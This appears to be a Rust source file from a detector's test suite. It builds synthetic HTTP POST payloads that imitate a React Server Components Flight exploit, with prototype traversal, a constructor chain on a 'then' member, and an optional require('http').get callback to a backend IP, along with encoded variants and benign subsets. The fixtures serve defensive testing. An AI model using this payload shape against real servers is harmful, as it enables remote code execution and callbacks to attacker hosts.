//! Synthetic payload construction.
//!
//! Exploit fixtures carry the structure the detector keys on — one Flight
//! reference token, one prototype traversal, one constructor chain assigned
//! to a `then` member, and optionally one backend URL — inside a plausible
//! HTTP POST. They are constructed, not captured, payloads. Benign fixtures
//! deliberately carry strict subsets of the indicators so false-positive
//! testing has teeth.

use std::net::Ipv4Addr;

use serde::{Deserialize, Serialize};

use crate::decode::{encode_step, DecodeStep};

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum PayloadKind {
    ExploitPlain,
    ExploitBase64,
    ExploitGzipBase64,
    BenignFlight,
    BenignHttp,
    PollutionOnly,
}

impl PayloadKind {
    pub fn is_exploit(self) -> bool {
        matches!(
            self,
            PayloadKind::ExploitPlain | PayloadKind::ExploitBase64 | PayloadKind::ExploitGzipBase64
        )
    }

    pub const EXPLOIT_KINDS: [PayloadKind; 3] = [
        PayloadKind::ExploitPlain,
        PayloadKind::ExploitBase64,
        PayloadKind::ExploitGzipBase64,
    ];

    pub const BENIGN_KINDS: [PayloadKind; 3] = [
        PayloadKind::BenignFlight,
        PayloadKind::BenignHttp,
        PayloadKind::PollutionOnly,
    ];
}

fn http_post(path: &str, body: &str) -> Vec<u8> {
    // Host is a reserved-TLD domain on purpose: a dotted-quad Host header
    // would read as an embedded endpoint during backend extraction.
    format!(
        "POST /{path} HTTP/1.1\r\nHost: rsc-target.test\r\nUser-Agent:.flight-probe/1.4\r\nContent-Type: text/x-component\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    )
    .into_bytes()
}

fn exploit_plain(backend: Option<(Ipv4Addr, u16)>, seed: u64) -> Vec<u8> {
    let ref_n = 1 + seed % 9;
    let action = format!("a{:04x}", seed & 0xffff);
    let stage = match backend {
        Some((ip, port)) => format!("require('http').get('http://{ip}:{port}/s{:x}')", seed & 0xfff),
        None => format!("process.env.M='{:08x}'", seed as u32),
    };
    let body = format!(
        "0:{{\"then\":\"${ref_n}:__proto__:constructor:constructor\",\"args\":[\"{stage}\"],\"id\":\"{action}\"}}"
    );
    http_post(&format!("flight/{action}"), &body)
}

/// Builds one exploit payload, wrapped per kind.
///
/// Deterministic in `seed`; the Base64 and gzip variants wrap the whole
/// HTTP message so the decode chain, not header sniffing, recovers the
/// content.
///
/// # Panics
/// When `kind` is a benign variant.
pub fn exploit_payload(kind: PayloadKind, backend: Option<(Ipv4Addr, u16)>, seed: u64) -> Vec<u8> {
    assert!(kind.is_exploit(), "exploit_payload called with benign kind {kind:?}");
    let plain = exploit_plain(backend, seed);
    match kind {
        PayloadKind::ExploitPlain => plain,
        PayloadKind::ExploitBase64 => encode_step(DecodeStep::Base64, &plain),
        PayloadKind::ExploitGzipBase64 => {
            encode_step(DecodeStep::Base64, &encode_step(DecodeStep::Gzip, &plain))
        }
        _ => unreachable!(),
    }
}

/// Builds one benign payload. Deterministic in `seed`.
///
/// * `benign_flight` carries a Flight reference token but neither other
///   indicator;
/// * `pollution_only` carries the prototype traversal and constructor chain
///   but no reference token;
/// * `benign_http` is a plain GET probe.
///
/// # Panics
/// When `kind` is an exploit variant.
pub fn benign_payload(kind: PayloadKind, seed: u64) -> Vec<u8> {
    assert!(!kind.is_exploit(), "benign_payload called with exploit kind {kind:?}");
    match kind {
        PayloadKind::BenignFlight => {
            let n = seed % 90 + 2;
            let body = format!(
                "0:{{\"name\":\"Panel\",\"props\":{{\"start\":{},\"rows\":{n}}}}}\n1:\"${n}:children\"",
                seed % 7
            );
            http_post(&format!("app/render/{:x}", seed & 0xffff), &body)
        }
        PayloadKind::BenignHttp => format!(
            "GET /probe/{:x} HTTP/1.1\r\nHost: scan-sweep.test\r\nUser-Agent: sweep/{}\r\nAccept: */*\r\nConnection: close\r\n\r\n",
            seed & 0xffff,
            seed % 10
        )
        .into_bytes(),
        PayloadKind::PollutionOnly => {
            let body = format!(
                "{{\"q\":\"x.__proto__.constructor.constructor('return {}')()\"}}",
                seed % 100
            );
            http_post(&format!("api/set/{:x}", seed & 0xfff), &body)
        }
        _ => unreachable!(),
    }
}
